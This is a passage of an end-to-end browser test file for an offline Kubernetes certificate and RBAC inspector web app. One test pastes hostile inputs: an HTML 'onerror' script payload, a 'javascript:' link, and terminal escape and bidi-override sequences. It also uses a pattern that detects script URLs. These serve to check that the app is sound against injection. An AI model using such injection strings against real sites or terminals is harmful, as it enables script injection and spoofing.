// Browser tests: the release build (dist/) in Debian's headless Chromium via playwright-core.
// Run by scripts/test.sh after `trunk build --release --offline`:  node --test tests/e2e/
// Screenshots of the main states go to test-results/screenshots/ (look at them).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { launchChromium, newContext, openPage, PINNED_NOW, serveDir } from './chromium.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const dist = path.join(root, 'dist');
const fixtures = path.join(root, 'tests/fixtures');
const shots = path.join(root, 'test-results/screenshots');
fs.mkdirSync(shots, { recursive: true });

const served = [];
let server, base, browser;

before(async () => {
  assert.ok(fs.existsSync(path.join(dist, 'index.html')), 'dist/ is missing: run trunk build --release --offline first');
  ({ server, base } = await serveDir(dist, (url) => served.push(url)));
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** Opens the app and waits for the page's own input box (index.html's shell has given way to
 * it); records every request, console error and page error. */
async function open(opts = {}, hash = '') {
  const opened = await openPage(browser, base + hash, { acceptDownloads: true, ...opts });
  await opened.page.locator('#input-text').waitFor();
  return opened;
}

const fixture = (name) => fs.readFileSync(path.join(fixtures, name), 'utf8');

async function paste(page, text) {
  await page.locator('#input-text').fill(text);
}

async function chooseExample(page, id) {
  await page.selectOption('#example-select', id);
}

/** Waits until the report shows every expected string (one or a list); returns its text. */
async function reportText(page, expected) {
  const wanted = Array.isArray(expected) ? expected : [expected];
  try {
    await page.waitForFunction((ws) => {
      const t = document.querySelector('.report')?.innerText || '';
      return ws.every((w) => t.includes(w));
    }, wanted, { timeout: 10_000 });
  } catch {
    const t = (await page.locator('.report').count()) ? await page.locator('.report').innerText() : '(no report)';
    assert.fail(`expected ${JSON.stringify(wanted.filter((w) => !t.includes(w)))} in the report; it shows:\n${t.slice(0, 1500)}`);
  }
  return page.locator('.report').innerText();
}

test('loads with no request beyond its own files and no console errors', async () => {
  const { context, page, requests, errors } = await open();
  await page.waitForTimeout(300);
  const own = requests.filter((u) => u.startsWith(base));
  assert.deepEqual(requests.filter((u) => !u.startsWith(base)), [], 'requests to other origins');
  const names = own.map((u) => u.slice(base.length).split('?')[0]).sort();
  // The first report's module (index.html's preload: it answers the box until the page has
  // loaded, issue #24), the page's module, then the engine's in its worker (issue #8).
  assert.deepEqual(names, ['', 'boot.js', 'kube-cert-inspector-first.js', 'kube-cert-inspector-first_bg.wasm', 'kube-cert-inspector-page.js', 'kube-cert-inspector-page_bg.wasm', 'style.css', 'worker.js', 'kube-cert-inspector.js', 'kube-cert-inspector_bg.wasm'].sort());
  assert.match(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'), /default-src 'none'.*connect-src 'self'/);
  // The page's clock is the pinned one whatever the real date (issue #19).
  assert.equal(await page.evaluate(() => new Date().toISOString().slice(0, 10)), PINNED_NOW.slice(0, 10));
  assert.deepEqual(errors, []);
  await page.screenshot({ path: path.join(shots, 'empty.png'), fullPage: true });
  await context.close();
});

test('on a slow link the page shows at once and says it is starting the engine until the engine arrives', async () => {
  const context = await newContext(browser);
  // The engine's wasm (fetched by the page's worker) arrives 2 s late, as on a slow connection.
  await context.route('**/kube-cert-inspector_bg.wasm', async (route) => {
    await new Promise((r) => setTimeout(r, 2000));
    await route.continue();
  });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  const t0 = Date.now();
  await page.goto(base);
  // The shell's box (index.html) is usable at once, and stays until the engine has started.
  await page.locator('#shell-text').waitFor();
  assert.ok(Date.now() - t0 < 2000, 'the page is usable before the engine arrives');
  // What the first path does not read (RBAC objects) waits for the engine, and the page says so.
  await page.locator('#shell-text').fill(fixture('rbac/paste-amy-and-cluster-additions.txt'));
  await page.locator('#shell-status', { hasText: 'The whole inspector reads this once it has loaded' }).waitFor({ timeout: 5000 });
  await reportText(page, ['What this identity can do in your cluster']);
  assert.equal(await page.locator('#shell').count(), 0);
  assert.equal(await page.locator('.working').count(), 0);
  // In the page's own box, before its engine has started (the lab first, so the page takes over
  // at once): the page says what it is waiting for.
  const lab = await newContext(browser);
  await lab.route('**/kube-cert-inspector_bg.wasm', async (route) => {
    await new Promise((r) => setTimeout(r, 3000));
    await route.continue();
  });
  const labPage = await lab.newPage();
  labPage.on('pageerror', (e) => errors.push(e.message));
  await labPage.goto(`${base}#lab`);
  await labPage.locator('#shell').waitFor({ state: 'detached' });
  await labPage.evaluate(() => { location.hash = ''; });
  await paste(labPage, fixture('rbac/paste-amy-and-cluster-additions.txt'));
  await labPage.locator('.working', { hasText: "Starting the inspector's engine" }).waitFor({ timeout: 5000 });
  await reportText(labPage, ['What this identity can do in your cluster']);
  assert.deepEqual(errors, []);
  await lab.close();
  await context.close();
});

test('every example renders what a reviewer needs, without a single network request', async () => {
  const { context, page, requests, errors } = await open();
  await page.waitForTimeout(200);
  const before = requests.length;
  const expectations = {
    'csr-system-masters': ['Do not approve', 'mallory', 'system:masters', 'identity-system-masters', 'csr-subject-restriction', 'added by the API server'],
    'csr-developer': ['Routine', 'alice', 'developers', 'system:authenticated', '1 day (requested)'],
    'csr-kubelet-client': ['Routine', 'system:node:worker-1', 'Node worker-1', 'AutoApproved', 'Issued by', 'This request is already issued'],
    'csr-kubelet-serving-no-sans': ['Do not approve', 'DNS or IP subjectAltName is required', 'csr-kubelet-serving-shape'],
    'csr-node-by-alice': ['Review carefully', 'csr-node-requester-mismatch', 'submitted by alice'],
    'csr-list': ['Overall', 'mallory-admin', 'node-csr-by-alice', 'alice'],
    'csr-lookalike': ['identity-lookalike-characters', 'U+0430'],
    'admin-conf': ['kubernetes-admin@kubernetes', 'kubernetes-admin in kubeadm:cluster-admins', 'identity-kubeadm-cluster-admins', 'Root certificate authority'],
    'kubeconfig-risky': ['kubeconfig-insecure-skip-tls-verify', 'token-legacy-service-account', 'aws eks get-token', 'hidden'],
    'expired-controller-manager': ['expired', 'validity-expired', 'system:kube-controller-manager'],
    chain: ['Issued by', '#1', 'kube-apiserver', 'Chain', 'LEAF', 'ROOT', 'issued by (signature verified)'],
    'rbac-amy': ['What this identity can do in your cluster', 'RoleBinding dev/dev-team-edit', 'Who holds dangerous powers', 'rbac-dangerous-power'],
    'error-forbidden': ['You were recognised, and RBAC does not allow this request', 'kubectl auth can-i list pods -n dev --as amy --as-group dev-team', 'Offline answer: no.', 'kubectl create role amy-list-pods --verb=list --resource=pods -n dev', 'kubectl create rolebinding amy-list-pods'],
  };
  for (const [id, wanted] of Object.entries(expectations)) {
    await chooseExample(page, id);
    await reportText(page, wanted);
    if (['csr-system-masters', 'admin-conf', 'kubeconfig-risky', 'csr-kubelet-client', 'chain', 'error-forbidden'].includes(id)) {
      await page.screenshot({ path: path.join(shots, `example-${id}.png`), fullPage: true });
    }
    if (id === 'error-forbidden') {
      // The explanation's own card, for the README (docs/screenshot-error.png).
      await page.locator('article.kind-errormessage').screenshot({ path: path.join(shots, 'error-forbidden-card.png') });
    }
  }
  // A look-alike character is marked where the value is read, with its code point (issue #21).
  await chooseExample(page, 'csr-lookalike');
  await reportText(page, 'identity-lookalike-characters');
  assert.equal(await page.locator('table.mapping mark.lookalike').first().getAttribute('title'), 'U+0430: not an ASCII character');
  assert.equal(await page.locator('ul.groups mark.lookalike').first().getAttribute('title'), 'U+0430: not an ASCII character', 'marked in the Groups list too');
  // Secrets in the examples are never displayed (the risky kubeconfig holds a password).
  await chooseExample(page, 'kubeconfig-risky');
  await reportText(page, 'kubeconfig-insecure-skip-tls-verify');
  const page_text = await page.locator('body').innerText();
  assert.ok(!page_text.includes('hunter2'));
  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:') && !u.startsWith('data:')), [], 'network requests after load');
  assert.deepEqual(errors, []);
  await context.close();
});

test('the Kubernetes release is chosen on the page, kept only in the fragment, and judged for', async () => {
  // Opened for 1.33 (a link someone shared): the UID attribute is ignored there.
  const { context, page, errors } = await open({}, '#kubernetes=1.33');
  assert.equal(await page.locator('#kubernetes-select').inputValue(), '1.33');
  await paste(page, fixture('cert-uid-client.pem'));
  let text = await reportText(page, ['Judged for Kubernetes 1.33 (Go 1.25).', 'ignored by Kubernetes 1.33: read as the UID from 1.34']);
  assert.ok(!/^UID$/m.test(text), 'no UID on 1.33');
  // The newest release reads it; the fragment forgets the choice of the default.
  await page.selectOption('#kubernetes-select', { label: '1.37 (newest, supported; Go 1.26)' });
  text = await reportText(page, ['Judged for Kubernetes 1.37 (Go 1.26).', '→ UID (1.34+)']);
  assert.ok(text.includes('1a2b3c4d-amy'));
  assert.ok(!page.url().includes('kubernetes='), page.url());
  // 1.38 is built with Go 1.27, which skips a subject value of no string type that 1.37's Go refuses.
  await page.selectOption('#kubernetes-select', '1.38');
  assert.ok(page.url().endsWith('#kubernetes=1.38'), page.url());
  await paste(page, fixture('go/cert-go-o-not-a-string.pem'));
  text = await reportText(page, 'Judged for Kubernetes 1.38 (Go 1.27).');
  assert.ok(!text.includes('cannot parse'), text.slice(0, 800));
  await page.selectOption('#kubernetes-select', { label: '1.37 (newest, supported; Go 1.26)' });
  await reportText(page, ['Judged for Kubernetes 1.37 (Go 1.26).', 'cannot']);
  await page.screenshot({ path: path.join(shots, 'release-1.37-refuses.png'), fullPage: true });
  // The choice stays in the URL: nothing in storage.
  assert.deepEqual(await page.evaluate(() => [localStorage.length, sessionStorage.length]), [0, 0]);
  assert.deepEqual(errors, []);
  await context.close();
});

test('pasting a CSR object shows the verdict first, then identity and findings', async () => {
  const { context, page, errors } = await open();
  await paste(page, fixture('csr-object-system-masters.yaml'));
  await reportText(page, 'Do not approve');
  const first = page.locator('.object').first();
  const order = await first.evaluate((el) => [...el.querySelectorAll('.verdict, .identity, .findings')].map((e) => e.className.split(' ')[0]));
  assert.deepEqual(order, ['verdict', 'identity', 'findings']);
  const username = await first.locator('code.username').innerText();
  assert.equal(username, 'mallory');
  const groups = await first.locator('code.group').allInnerTexts();
  assert.deepEqual(groups, ['system:masters', 'system:authenticated']);
  const badges = await first.locator('.finding .badge').allInnerTexts();
  assert.equal(badges[0].toLowerCase(), 'critical');
  assert.deepEqual(errors, []);
  await context.close();
});

test('truth audit: a Go-re-encoded issued certificate matches its request; RSA-512 is refused with Go\'s reason', async () => {
  const { context, page, errors } = await open();
  await paste(page, fixture('csr-object-issued-reencoded.yaml'));
  await reportText(page, 'the certificate will have no UID');
  const first = page.locator('.object').first();
  assert.equal(await first.locator('code.username').first().innerText(), 'jbeda');
  const text = await first.innerText();
  assert.ok(!text.includes('does not match the request'), 'no false mismatch');
  assert.ok(text.includes('Routine'), 'the request itself is routine');
  await page.screenshot({ path: path.join(shots, 'audit-issued-reencoded.png'), fullPage: true });
  await paste(page, fixture('csr-rsa512.pem'));
  await reportText(page, '512-bit keys are insecure');
  await page.screenshot({ path: path.join(shots, 'audit-rsa512.png'), fullPage: true });
  assert.deepEqual(errors, []);
  await context.close();
});

test('a CSR list opens as a review queue: worst first, sortable by click and keyboard, rows link to cards, commands to copy', async () => {
  const { context, page, errors } = await open();
  await paste(page, fixture('csr-list.yaml'));
  await reportText(page, 'Review queue: 3 requests');
  const table = page.locator('.queue-table');
  await page.locator('.queue').screenshot({ path: path.join(shots, 'queue.png') });
  const names = async () => table.locator('tbody tr td:nth-child(2)').allInnerTexts();
  assert.deepEqual(await names(), ['mallory-admin', 'node-csr-by-alice', 'alice'], 'worst first');
  const headers = await table.locator('thead th').allInnerTexts();
  assert.deepEqual(headers.map((h) => h.replace(/[▲▼ ]/g, '')), ['VERDICT', 'NAME', 'AGE', 'SIGNERNAME', 'REQUESTOR', 'REQUESTEDDURATION', 'CONDITION', 'USERNAME', 'GROUPS']);
  await table.getByRole('button', { name: /^NAME/ }).click();
  assert.deepEqual(await names(), ['alice', 'mallory-admin', 'node-csr-by-alice'], 'by name, ascending');
  assert.equal(await table.locator('th[aria-sort="ascending"]').innerText(), 'NAME ▲');
  await table.getByRole('button', { name: /^NAME/ }).click();
  assert.deepEqual(await names(), ['node-csr-by-alice', 'mallory-admin', 'alice'], 'by name, descending');
  // Keyboard only: focus the duration header and press Enter.
  await table.getByRole('button', { name: /^REQUESTEDDURATION/ }).focus();
  await page.keyboard.press('Enter');
  assert.deepEqual(await names(), ['mallory-admin', 'node-csr-by-alice', 'alice'], '<none> first, then 60m, then 24h');
  await table.getByRole('button', { name: /^VERDICT/ }).click();
  assert.deepEqual(await names(), ['mallory-admin', 'node-csr-by-alice', 'alice'], 'verdict starts worst first');
  assert.equal(await page.locator('.approve-command').innerText(), 'kubectl certificate approve alice');
  assert.equal(await page.locator('.deny-command').innerText(), 'kubectl certificate deny mallory-admin');
  await table.getByRole('link', { name: 'alice', exact: true }).click();
  assert.ok((await page.evaluate(() => location.hash)).startsWith('#object-'), 'the row links to its card');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a user request without a lifetime offers the corrected request to resubmit', async () => {
  const { context, page, errors } = await open();
  await paste(page, fixture('csr-object-no-lifetime.yaml'));
  await reportText(page, 'Ask for one day instead of a year');
  const yaml = await page.locator('.resubmit-yaml').innerText();
  assert.ok(yaml.includes('expirationSeconds: 86400'));
  assert.ok(yaml.includes('name: "alice-no-lifetime"'));
  assert.ok(await page.locator('.resubmit').getByText('kubectl certificate deny alice-no-lifetime').isVisible());
  await page.locator('.resubmit').screenshot({ path: path.join(shots, 'resubmit.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('hostile names are shown, never obeyed: no markup, no script links, no raw escapes or bidi overrides', async () => {
  const { context, page, errors } = await open();
  await paste(page, fixture('csr-markup-and-script-uris.pem'));
  await reportText(page, '<img src=x onerror=alert(1)>');
  const report = page.locator('.report');
  assert.equal(await report.locator('img, b, script, iframe').count(), 0, 'no element made from the input');
  const hrefs = await page.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  assert.ok(hrefs.every((h) => !/^\s*(javascript|data|vbscript):/i.test(h)), `no script or data links: ${hrefs}`);
  assert.ok((await report.textContent()).includes('javascript:alert(1)'), 'the SAN is in the page as text');
  await paste(page, fixture('csr-terminal-escapes.pem'));
  await reportText(page, 'dev\\u{202e}sretsam');
  const text = await page.locator('body').innerText();
  assert.ok(!/[\u001b\u0007\u202e\u2066-\u2069]/.test(text), 'no raw escape, bell or bidi override on the page');
  assert.ok(text.includes('x\\u{1b}]0;pwned\\u{7}\\u{1b}[2J'), 'the CN is shown with its escapes visible');
  await page.screenshot({ path: path.join(shots, 'hostile-names.png'), fullPage: false });
  assert.deepEqual(errors, []);
  await context.close();
});

test('secrets in the input never reach the page, the JSON report, the URL, storage or the console', async () => {
  const { context, page, errors } = await open();
  const consoleAll = [];
  page.on('console', (m) => consoleAll.push(m.text()));
  // A CA certificate with its private key, and a kubeconfig with tokens and a password.
  const keyPem = fixture('ca-with-key.pem');
  const kubeconfig = fixture('kubeconfig-risky.yaml');
  const keyLines = keyPem.split('\n').filter((l) => /^[A-Za-z0-9+/]{60,}$/.test(l));
  const caKeyBody = fixture('ca.key').split('\n').filter((l) => /^[A-Za-z0-9+/]{60,}$/.test(l));
  const tokens = [...kubeconfig.matchAll(/token: (\S+)/g)].map((m) => m[1]);
  const secrets = [...caKeyBody.slice(0, 3), 'hunter2', ...tokens.map((t) => t.slice(8, 60))];
  assert.ok(secrets.length >= 5 && tokens.length >= 2 && keyLines.length > 0, 'the fixtures hold the secrets under test');
  const check = async (where) => {
    const reportText = await page.locator('.report').evaluate((el) => el.textContent);
    const url = page.url();
    const storage = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download report JSON' }).click()]);
    const json = fs.readFileSync(await download.path(), 'utf8');
    for (const secret of secrets) {
      for (const [place, text] of [['page', reportText], ['URL', url], ['storage', storage], ['JSON report', json], ['console', consoleAll.join('\n')]]) {
        assert.ok(!text.includes(secret), `${where}: a secret (${secret.slice(0, 6)}…) appears in the ${place}`);
      }
    }
  };
  await paste(page, keyPem);
  await reportText(page, 'secret-ca-private-key');
  await check('CA with key');
  await paste(page, kubeconfig);
  await reportText(page, 'kubeconfig-embedded-credentials');
  await check('kubeconfig');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a dropped DER file and a picked file are both read', async () => {
  const { context, page, errors } = await open();
  const der = fs.readFileSync(path.join(fixtures, 'cert-developer.der'));
  await page.evaluate(async (bytes) => {
    const file = new File([new Uint8Array(bytes)], 'cert.der', { type: 'application/octet-stream' });
    const dt = new DataTransfer();
    dt.items.add(file);
    const target = document.querySelector('#input-text');
    target.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
    target.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, [...der]);
  let text = await reportText(page, 'Binary DER');
  assert.ok(text.includes('alice'));
  assert.ok(await page.getByText('cert.der (').isVisible());
  await page.setInputFiles('#file-input', path.join(fixtures, 'admin.conf'));
  text = await reportText(page, 'kubernetes-admin@kubernetes');
  assert.ok(text.includes('kubeadm:cluster-admins'));
  assert.deepEqual(errors, []);
  await context.close();
});

test('RBAC: a certificate dropped with the cluster\'s RBAC files shows what it can do there, and who holds what', async () => {
  const { context, page, errors } = await open();
  // Two files dropped at once, as separate files (made by tests/fixtures/make-rbac-fixtures.sh).
  const files = ['rbac/cert-amy.pem', 'rbac/amy-view.yaml', 'rbac/cluster-additions.yaml'].map((f) => [path.basename(f), fixture(f)]);
  await page.evaluate(async (files) => {
    const dt = new DataTransfer();
    for (const [name, text] of files) dt.items.add(new File([text], name, { type: 'text/plain' }));
    const target = document.querySelector('#input-text');
    target.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, files);
  let text = await reportText(page, ['What this identity can do in your cluster', 'Your RBAC objects', 'Who holds dangerous powers']);
  // The CN/O mapping put to work: which subject of which binding matched.
  const bindings = await page.locator('.access-bindings').first().innerText();
  assert.match(bindings, /RoleBinding dev\/amy-view\s+ClusterRole view \(rules computed from aggregationRule\)\s+subject User amy = the username \(CN\)/);
  assert.match(bindings, /RoleBinding dev\/dev-team-edit[\s\S]*subject Group dev-team = one of the groups \(O\)/);
  assert.match(bindings, /ClusterRoleBinding amy-ghost[\s\S]*missing: grants nothing/);
  assert.ok(text.includes('Read Secrets in namespace dev'), text.slice(0, 3000));
  // kubectl auth can-i, typed in the page.
  const ask = async (q) => {
    await page.locator('.can-i input').first().fill(q);
    await page.locator('.can-i button').first().click();
    return page.locator('.can-i-answer').first().innerText();
  };
  let answer = await ask('get pods -n dev');
  assert.match(answer, /^yes/);
  assert.match(answer, /RoleBinding dev\/amy-view → ClusterRole view/);
  answer = await ask('get secrets -n prod');
  assert.match(answer, /^no/);
  answer = await ask('list deployments -n dev');
  assert.match(answer, /deployments → deployments\.apps/);
  await page.locator('.can-i input').first().fill('get');
  await page.locator('.can-i button').first().click();
  assert.match(await page.locator('.can-i .not-understood').first().innerText(), /expected VERB TYPE/);
  await ask('get pods -n dev');
  await page.locator('.access').first().screenshot({ path: path.join(shots, 'rbac-access.png') });
  // kubectl auth can-i --list, built when asked for.
  await page.getByRole('button', { name: /Show the permissions as kubectl auth can-i --list prints them/ }).first().click();
  const list = await page.locator('.permissions').first().innerText();
  assert.match(list, /In namespace dev/);
  assert.match(list, /deployments\.apps\s+\[\]\s+\[\]\s+\[get list watch create delete/);
  // The reverse view names the CSR approvers and the kube-system secret readers.
  const holders = await page.locator('.holders').innerText();
  assert.match(holders, /Approve certificate signing requests[\s\S]*Group csr-approvers/);
  assert.match(holders, /ServiceAccount kube-system\/ci-deployer\s+in namespace kube-system/);
  await page.locator('.permissions').first().screenshot({ path: path.join(shots, 'rbac-list.png') });
  await page.locator('.rbac-summary').screenshot({ path: path.join(shots, 'rbac-holders.png') });
  // This credential leaked: the plan, opened on demand, with the commands to copy.
  const contain = page.locator('details.contain').first();
  await contain.locator('summary').click();
  const plan = await contain.innerText();
  assert.match(plan, /It works until 2036-11-01T00:00:00Z/);
  assert.match(plan, /A Kubernetes certificate cannot be revoked\. RBAC can take its powers away\./);
  assert.match(plan, /Remove User amy from RoleBinding dev\/amy-view/);
  assert.match(plan, /takes it from every other member of dev-team/);
  assert.ok(plan.includes('kubectl delete clusterrolebinding amy-ghost'), plan);
  assert.ok(await contain.getByRole('button', { name: /Copy the command/ }).first().isVisible());
  await contain.screenshot({ path: path.join(shots, 'contain.png') });
  // Without RBAC: the default policy, with its caveat.
  await paste(page, fixture('csr-controller-manager.pem'));
  text = await reportText(page, "What this identity can do under Kubernetes' default policy");
  assert.ok(text.includes('about v1.30'));
  assert.ok(text.includes('ClusterRoleBinding system:kube-controller-manager'));
  assert.equal(await page.locator('.rbac-summary').count(), 0);
  assert.deepEqual(errors, []);
  await context.close();
});

test('PKI: a picked /etc/kubernetes folder and a dropped .tgz give kubeadm\'s tables, the trust map and the mix-ups', async () => {
  const { context, page, errors } = await open();
  // The directory picker (webkitdirectory): the broken node of tests/fixtures/make-pki-fixtures.sh.
  await page.setInputFiles('#folder-input', path.join(fixtures, 'pki/broken'));
  let text = await reportText(page, ['Control-plane PKI', 'Trust map: 1 broken link']);
  const table = await page.locator('table.expiry').first().innerText();
  assert.match(table, /!MISSING! controller-manager\.conf/);
  assert.match(table, /scheduler\.conf\s+Jan 01, 2026 00:00 UTC\s+<invalid>\s+ca\s+no/);
  // At the pinned instant (2026-11-24T06:00:00Z) it has 6 days 18 hours left: kubeadm prints 6d.
  assert.match(table, /front-proxy-client\s+Dec 01, 2026 00:00 UTC\s+6d\s+front-proxy-ca/);
  assert.ok(text.includes('apiserver-etcd-client is signed by ca, but the other side trusts only etcd-ca'), text.slice(0, 2000));
  const all = await page.locator('.report').textContent();
  for (const id of ['pki-wrong-ca', 'pki-key-mismatch', 'serving-apiserver-missing-names']) assert.ok(all.includes(id), id);
  assert.ok(text.includes('Static Pod manifests: 18 of 19 file flags as kubeadm writes them'), text.slice(0, 3000));
  assert.ok(text.includes('etcd --trusted-ca-file points to /etc/kubernetes/pki/ca.crt (the cluster CA\'s file)'));
  // Sorted by expiry: the missing file first, then the expired kubeconfig.
  await page.locator('table.expiry').first().getByRole('button', { name: /EXPIRES/ }).click();
  const rows = await page.locator('table.expiry').first().locator('tbody tr').allInnerTexts();
  assert.match(rows[0], /^!MISSING! controller-manager\.conf/);
  assert.match(rows[1], /^scheduler\.conf/);
  assert.equal(await page.locator('table.expiry tbody tr.worst-critical').count() >= 2, true);
  await page.locator('.pki').screenshot({ path: path.join(shots, 'pki-broken.png') });
  // The archive an operator copies off a node, dropped as one file.
  const tgz = fs.readFileSync(path.join(fixtures, 'pki/healthy.tgz'));
  await page.evaluate(async (bytes) => {
    const dt = new DataTransfer();
    dt.items.add(new File([new Uint8Array(bytes)], 'pki.tgz', { type: 'application/gzip' }));
    document.querySelector('#input-text').dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, [...tgz]);
  text = await reportText(page, ['Control-plane PKI (kubernetes/)', 'Trust map: every link lines up']);
  assert.ok(text.includes('kubernetes/pki/etcd/server.crt'));
  assert.ok(await page.getByText(/pki\.tgz \(.*read as an archive/).isVisible());
  assert.deepEqual(errors, []);
  await context.close();
});

test('a worker node\'s archive dropped: the kubelet\'s config explained, kubelet.conf\'s linked certificate read, rotation off flagged', async () => {
  const { context, page, errors } = await open();
  // tar czf worker.tgz -C / etc/kubernetes var/lib/kubelet (tests/fixtures/node/make.sh).
  const tgz = fs.readFileSync(path.join(fixtures, 'node/worker-rotation-off.tgz'));
  await page.evaluate(async (bytes) => {
    const dt = new DataTransfer();
    dt.items.add(new File([new Uint8Array(bytes)], 'worker.tgz', { type: 'application/gzip' }));
    document.querySelector('#input-text').dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, [...tgz]);
  const text = await reportText(page, ['KubeletConfiguration (client rotation off, serving certificate self-signed)']);
  const card = page.locator('article.kind-kubeletconfig');
  assert.equal(await card.count(), 1);
  const facts = await card.locator('dl.kubelet-facts').innerText();
  assert.match(facts, /never renewed by the kubelet \(rotateCertificates is not set, and defaults to false\)/);
  assert.match(facts, /signed by the kubelet itself/);
  const cardText = await card.innerText();
  assert.ok(cardText.includes('kubelet-client-rotation-off'), cardText.slice(0, 2000));
  assert.ok(cardText.includes("system:node:worker-1's client certificate"), cardText.slice(0, 2000));
  assert.ok(cardText.includes('kubelet-serving-self-signed'));
  // kubelet.conf names kubelet-client-current.pem, a link in the archive: the page read the file behind it.
  assert.ok(text.includes('Files it names, read from this input'), text.slice(0, 3000));
  assert.ok(text.includes('var/lib/kubelet/pki/kubelet-client-2026-01-10-00-00-00.pem'));
  assert.ok(!text.includes('Control-plane PKI'), 'a worker is not a control plane');
  // The checklist, item by item, linking to the findings that decided it.
  const checklist = page.locator('section.checklist');
  assert.match(await checklist.locator('h3').innerText(), /Security checklist: 1 of 4 items fail/);
  const expiration = checklist.locator('li.item', { hasText: 'Manage expiration' });
  assert.equal(await expiration.locator('.status').innerText(), 'fail');
  assert.equal(await expiration.locator('a[href="#object-3"]').count(), 2, 'both kubelet findings link to the KubeletConfiguration');
  assert.equal(await checklist.locator('li.status-pass').count(), 3);
  await checklist.screenshot({ path: path.join(shots, 'checklist.png') });
  await card.screenshot({ path: path.join(shots, 'kubelet-config.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('a 144-certificate bundle opens as a table sortable by expiry', async () => {
  const { context, page, errors } = await open();
  // A file rather than typed text: Chromium's own textarea editing of 200 KB takes ~17 s here.
  await page.setInputFiles('#file-input', path.join(fixtures, 'debian-ca-certificates.crt'));
  await page.waitForFunction(() => document.querySelectorAll('.bundle tbody tr').length === 144, null, { timeout: 15_000 });
  const expiries = async () => page.locator('.bundle tbody tr td:nth-child(3)').allInnerTexts();
  const asc = await expiries();
  assert.deepEqual(asc, [...asc].sort(), 'sorted by expiry, earliest first');
  await page.getByRole('button', { name: /Expires/ }).click();
  const desc = await expiries();
  assert.deepEqual(desc, [...asc].reverse());
  assert.equal(await page.locator('th[aria-sort]').getAttribute('aria-sort'), 'descending');
  assert.equal(await page.locator('article.object').count(), 50, 'only the first 50 detail cards at first');
  await page.getByRole('button', { name: 'Show the other 94 objects in detail' }).click();
  assert.equal(await page.locator('article.object').count(), 144);
  await page.screenshot({ path: path.join(shots, 'bundle.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('a 5 MB paste is analysed in the background: progress shown, text box left empty, tables cut at 200 rows', async () => {
  const { context, page, requests, errors } = await open();
  const bundle = fixture('debian-ca-certificates.crt');
  const big = bundle.repeat(Math.ceil(5_000_000 / bundle.length));
  const certs = big.split('-----BEGIN CERTIFICATE-----').length - 1;
  // Every status line the page shows while it works, in order.
  await page.evaluate(() => {
    window.statuses = [];
    new MutationObserver(() => {
      const t = document.querySelector('.working')?.innerText;
      if (t && window.statuses.at(-1) !== t) window.statuses.push(t);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  // A paste as the browser delivers it: a paste event carrying the text.
  await page.evaluate((t) => {
    const dt = new DataTransfer();
    dt.setData('text/plain', t);
    document.getElementById('input-text').dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
  }, big);
  await page.waitForFunction((n) => document.querySelector('.bundle caption')?.innerText === `${n} certificates`, certs, { timeout: 60_000 });
  const statuses = await page.evaluate(() => window.statuses);
  assert.match(statuses[0], /^Analysing 4\.\d MB in the background/, statuses.join(' | '));
  assert.equal(await page.locator('#input-text').inputValue(), '', 'megabytes never enter the text box');
  assert.match(await page.locator('.file-note').innerText(), /4\.\d MB of text, not shown in the box/);
  assert.equal(await page.locator('.bundle tbody tr').count(), 200);
  assert.equal(await page.locator('article.object').count(), 50);
  await page.getByRole('button', { name: 'Show 200 more certificates' }).click();
  assert.equal(await page.locator('.bundle tbody tr').count(), 400);
  assert.match(await page.locator('.show-more').innerText(), new RegExp(`400 of ${certs} shown`));
  // A row whose card is not rendered yet: following its link renders that card and scrolls to it.
  const far = (await page.locator('.bundle tbody tr td:first-child a').allInnerTexts()).map(Number).find((n) => n >= 50);
  assert.equal(await page.locator(`#object-${far}`).count(), 0);
  await page.locator('.bundle tbody tr td:first-child a', { hasText: new RegExp(`^${far}$`) }).first().click();
  await page.locator(`#object-${far}`).waitFor();
  assert.ok(await page.locator(`#object-${far}`).isVisible());
  await page.screenshot({ path: path.join(shots, 'big-paste.png') });
  // The engine's worker is one of the app's own files and loads nothing else.
  const names = [...new Set(requests.map((u) => u.slice(base.length).split('?')[0]))].sort();
  assert.deepEqual(names, ['', 'boot.js', 'kube-cert-inspector-first.js', 'kube-cert-inspector-first_bg.wasm', 'kube-cert-inspector-page.js', 'kube-cert-inspector-page_bg.wasm', 'style.css', 'worker.js', 'kube-cert-inspector.js', 'kube-cert-inspector_bg.wasm'].sort());
  // Clear, then a small paste: its report replaces the big one.
  await page.getByRole('button', { name: 'Clear' }).click();
  await paste(page, fixture('csr-object-system-masters.yaml'));
  await reportText(page, 'Do not approve');
  assert.deepEqual(errors, []);
  await context.close();
});

test('the report downloads as JSON with the documented fields, and copies as the same JSON', async () => {
  const { context, page } = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
  await chooseExample(page, 'csr-developer');
  await reportText(page, 'Routine');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download report JSON' }).click()]);
  assert.equal(download.suggestedFilename(), 'k8s-cert-report.json');
  const json = JSON.parse(fs.readFileSync(await download.path(), 'utf8'));
  assert.equal(json.schema_version, 1);
